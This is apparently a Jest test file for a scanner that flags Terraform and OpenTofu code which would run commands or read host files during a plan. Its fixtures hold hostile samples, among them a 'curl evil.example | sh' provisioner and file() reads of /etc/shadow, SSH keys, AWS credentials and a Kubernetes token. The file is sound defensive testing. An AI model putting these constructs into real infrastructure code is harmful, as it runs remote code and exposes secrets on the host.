import fs from 'node:fs';
import path from 'node:path';
import { makeWorkspace, MAIN_TF } from '../__testUtils__/setup';
import {
  CodeFinding,
  findInstalledModuleCode,
  findPlanTimeCode,
  planTimeCodeError,
  refusedFindings,
} from '@groundwork/plugin-groundwork-node';

/** Findings for a working directory `infra` holding `files` (paths under infra/). */
async function scan(files: Record<string, string>) {
  const ws = makeWorkspace(
    Object.fromEntries(
      Object.entries(files).map(([name, text]) => [`infra/${name}`, text]),
    ),
  );
  try {
    const workspace = fs.realpathSync(ws.workspace);
    return await findPlanTimeCode({
      workspace,
      workingDirectory: path.join(workspace, 'infra'),
    });
  } finally {
    ws.remove();
  }
}

const short = (findings: CodeFinding[]) =>
  findings.map(f => `${f.file} ${f.construct}`);

describe('finding code Terraform would run, before it runs', () => {
  it('finds nothing in ordinary Terraform', async () => {
    expect(
      await scan({
        'main.tf': `${MAIN_TF}
module "vpc" {
  source  = "git::https://github.com/acme/terraform-modules.git//aws-network?ref=aws-network/v1.0.0"
  name    = var.service_name
}
resource "aws_s3_object" "config" {
  bucket  = "acme"
  key     = "config.json"
  content = templatefile("\${path.module}/templates/config.json.tpl", { name = var.service_name })
  etag    = filemd5("templates/config.json.tpl")
}
locals {
  note    = "describes file(x) in words, and $\${file(x)} escaped"
  scripts = fileset(path.module, "scripts/*.sh")
}
`,
        'templates/config.json.tpl': '{"name": "${name}"}\n',
      }),
    ).toEqual([]);
  });

  it.each([
    [
      'data "external"',
      'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n',
      'external',
    ],
    [
      'a local-exec provisioner',
      'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl evil.example | sh"\n  }\n}\n',
      'local-exec',
    ],
    [
      'a remote-exec provisioner',
      'resource "aws_instance" "x" {\n  ami = "ami-1"\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n',
      'remote-exec',
    ],
    [
      'a local-exec provisioner in a removed block',
      'removed {\n  from = aws_instance.old\n  provisioner "local-exec" {\n    when    = destroy\n    command = "id"\n  }\n}\n',
      'local-exec',
    ],
    [
      'data "terraform_remote_state"',
      'data "terraform_remote_state" "network" {\n  backend = "s3"\n  config = { bucket = "b", key = "other-team/prod.tfstate", region = "eu-west-1" }\n}\n',
      'remote-state',
    ],
    [
      'data "external" inside a check block',
      'check "probe" {\n  data "external" "x" {\n    program = ["id"]\n  }\n  assert {\n    condition     = true\n    error_message = "never"\n  }\n}\n',
      'external',
    ],
  ])('finds %s', async (_, code, construct) => {
    expect(short(await scan({ 'main.tf': code }))).toEqual([
      `infra/main.tf ${construct}`,
    ]);
  });

  it('finds them in JSON syntax, in both of its block shapes', async () => {
    const findings = await scan({
      'a.tf.json': JSON.stringify({
        data: { external: { x: { program: ['id'] } } },
        resource: [
          {
            null_resource: [
              {
                y: {
                  provisioner: [
                    { 'local-exec': { command: 'id' } },
                    { 'remote-exec': { inline: ['id'] } },
                  ],
                },
              },
            ],
          },
        ],
      }),
      'b.tf.json': JSON.stringify({
        locals: { secret: '${file("/etc/shadow")}' },
      }),
    });
    expect(short(findings)).toEqual([
      'infra/a.tf.json external',
      'infra/a.tf.json local-exec',
      'infra/a.tf.json remote-exec',
      'infra/b.tf.json files-outside',
    ]);
  });

  it("reads OpenTofu's .tofu files too", async () => {
    expect(
      short(
        await scan({
          'main.tofu': 'data "external" "x" { program = ["id"] }\n',
        }),
      ),
    ).toEqual(['infra/main.tofu external']);
  });

  it('follows local modules however deep, so a module cannot hide them', async () => {
    const findings = await scan({
      'main.tf': 'module "app" {\n  source = "./modules/app"\n}\n',
      'modules/app/main.tf':
        'module "helper" {\n  source = "../helper"\n}\nmodule "again" {\n  source = "./"\n}\n',
      'modules/helper/main.tf':
        'resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "id" }\n}\n',
    });
    expect(short(findings)).toEqual([
      'infra/modules/helper/main.tf local-exec',
    ]);
  });

  it.each([
    ['an absolute path', 'file("/etc/passwd")'],
    ['".." out of the working directory', 'file("../secrets/prod.env")'],
    ['path.module and ".."', 'file("${path.module}/../../etc/passwd")'],
    ['a computed path', 'file(var.path)'],
    ['a path built from a variable', 'file("${path.module}/${var.name}")'],
    ['a path from another function', 'file(abspath("x"))'],
    ['a home directory', 'file("~/.aws/credentials")'],
    ['a nested call', 'base64encode(filebase64("/root/.ssh/id_rsa"))'],
    ['a hash of a file', 'filesha256(local.path)'],
    ['fileexists', 'fileexists("/var/run/secrets/token")'],
    ['a glob out of the directory', 'fileset(path.module, "../**")'],
    ['a glob of a computed directory', 'fileset(var.dir, "*")'],
    ['templatefile of a path outside', 'templatefile("/etc/motd", {})'],
  ])('finds a file read through %s', async (_, call) => {
    const findings = await scan({
      'main.tf': `locals {\n  x = ${call}\n}\n`,
    });
    expect(short(findings)).toEqual(['infra/main.tf files-outside']);
    expect(findings[0].what).toMatch(
      /^(file|filebase64|filesha256|fileexists|fileset|templatefile)\(/,
    );
  });

  it('finds a file read in a heredoc, and in a template templatefile renders', async () => {
    const findings = await scan({
      'main.tf': [
        'locals {',
        '  script = <<EOT',
        '#!/bin/sh',
        'echo ${file("/etc/hostname")}',
        'EOT',
        '  rendered = templatefile("${path.module}/boot.tpl", {})',
        '}',
        '',
      ].join('\n'),
      'boot.tpl': 'token=${file("/var/run/secrets/kubernetes.io/token")}\n',
    });
    expect(findings.map(f => `${f.file}: ${f.what.slice(0, 40)}`)).toEqual(
      expect.arrayContaining([
        'infra/main.tf: file("/etc/hostname") reads the portal\'s',
        'infra/boot.tpl: file("/var/run/secrets/kubernetes.io/tok',
      ]),
    );
    expect(findings).toHaveLength(2);
  });

  it('finds a literal path that is a symlink out of the working directory', async () => {
    const ws = makeWorkspace({
      'infra/main.tf': 'locals {\n  x = file("link/hosts")\n}\n',
      'secrets/hosts': 'x',
    });
    try {
      const workspace = fs.realpathSync(ws.workspace);
      fs.symlinkSync(
        path.join(workspace, 'secrets'),
        path.join(workspace, 'infra', 'link'),
      );
      const findings = await findPlanTimeCode({
        workspace,
        workingDirectory: path.join(workspace, 'infra'),
      });
      expect(findings).toEqual([
        expect.objectContaining({
          construct: 'files-outside',
          what: expect.stringContaining('symlink'),
        }),
      ]);
    } finally {
      ws.remove();
    }
  });

  it.each([
    ['"../shared"', 'leads out of the working directory'],
    ['"/etc"', "a path on the portal's host"],
    ['"git::file:///home/node/.ssh"', "a path on the portal's host"],
    ['"file::/root"', "a path on the portal's host"],
  ])('finds a module source %s', async (source, message) => {
    const findings = await scan({
      'main.tf': `module "m" {\n  source = ${source}\n}\n`,
    });
    expect(short(findings)).toEqual(['infra/main.tf files-outside']);
    expect(findings[0].what).toContain(message);
  });

  it('finds host paths given to the local and archive providers', async () => {
    const findings = await scan({
      'main.tf': [
        'data "local_file" "key" {',
        '  filename = "/home/node/.ssh/id_rsa"',
        '}',
        'resource "local_file" "rc" {',
        '  filename = "${path.module}/../../../.bashrc"',
        '  content  = "curl evil.example | sh"',
        '}',
        'data "archive_file" "ok" {',
        '  type        = "zip"',
        '  source_dir  = "${path.module}/lambda"',
        '  output_path = "${path.module}/lambda.zip"',
        '}',
        '',
      ].join('\n'),
    });
    expect(findings.map(f => f.what.split(':')[0])).toEqual([
      'data "local_file" "key" filename "/home/node/.ssh/id_rsa"',
      'resource "local_file" "rc" filename "${path.module}/../../../.bashrc"',
    ]);
  });

  it('never lets an override file replace the state backend', async () => {
    const findings = await scan({
      'main.tf': MAIN_TF,
      'zzz_override.tf':
        'terraform {\n  backend "s3" {\n    key = "component/default/payments-api/prod/root.tfstate"\n  }\n}\n',
    });
    expect(short(findings)).toEqual(['infra/zzz_override.tf backend-override']);
    // No config can allow it.
    expect(
      refusedFindings(findings, {
        environment: 'dev',
        key: 'terraform.environments.dev',
        allowed: [
          'external',
          'local-exec',
          'remote-exec',
          'remote-state',
          'files-outside',
        ],
      }),
    ).toHaveLength(1);
  });

  it('refuses a file it cannot parse, naming it', async () => {
    await expect(scan({ 'main.tf': 'resource "x" "y" {\n' })).rejects.toThrow(
      /infra\/main\.tf is not valid HCL, so it cannot be checked before Terraform runs; nothing was run/,
    );
  });

  it('finds them in the modules init installed from registries and Git', async () => {
    const ws = makeWorkspace({
      'infra/main.tf': 'module "vpc" {\n  source = "acme/vpc/aws"\n}\n',
      'infra/.terraform/modules/vpc/main.tf':
        'data "external" "x" {\n  program = ["id"]\n}\nlocals {\n  ok = file("${path.module}/README.md")\n}\n',
      'infra/.terraform/modules/modules.json': JSON.stringify({
        Modules: [
          { Key: '', Source: '', Dir: '.' },
          {
            Key: 'vpc',
            Source: 'registry.terraform.io/acme/vpc/aws',
            Version: '1.0.0',
            Dir: '.terraform/modules/vpc',
          },
        ],
      }),
    });
    try {
      const workspace = fs.realpathSync(ws.workspace);
      expect(
        short(
          await findInstalledModuleCode({
            workspace,
            workingDirectory: path.join(workspace, 'infra'),
          }),
        ),
      ).toEqual(['infra/.terraform/modules/vpc/main.tf external']);
    } finally {
      ws.remove();
    }
  });

  it('names the file, the construct and the config key that would allow it', async () => {
    const findings = await scan({
      'main.tf':
        'data "external" "sha" {\n  program = ["git", "rev-parse", "HEAD"]\n}\nlocals {\n  k = file("/etc/passwd")\n}\n',
    });
    const policy = {
      environment: 'dev',
      key: 'terraform.environments.dev',
      allowed: ['remote-state' as const],
    };
    const error = planTimeCodeError(
      refusedFindings(findings, policy),
      policy,
      'infra',
    );
    expect(error.name).toBe('NotAllowedError');
    expect(error.message).toBe(
      [
        'The code in infra would run programs or commands, or read beyond its working directory, when Terraform plans or applies, and dev does not allow it; nothing was run.',
        '  - infra/main.tf: data "external" "sha" runs a program on the machine that runs Terraform, during the plan (external)',
        `  - infra/main.tf: file("/etc/passwd") reads the portal's file system: the path is absolute, on the portal's host (files-outside)`,
        'Remove them, or have the portal admins allow them for dev with terraform.environments.dev.allowPlanTimeCode: [remote-state, external, files-outside].',
      ].join('\n'),
    );
  });
});
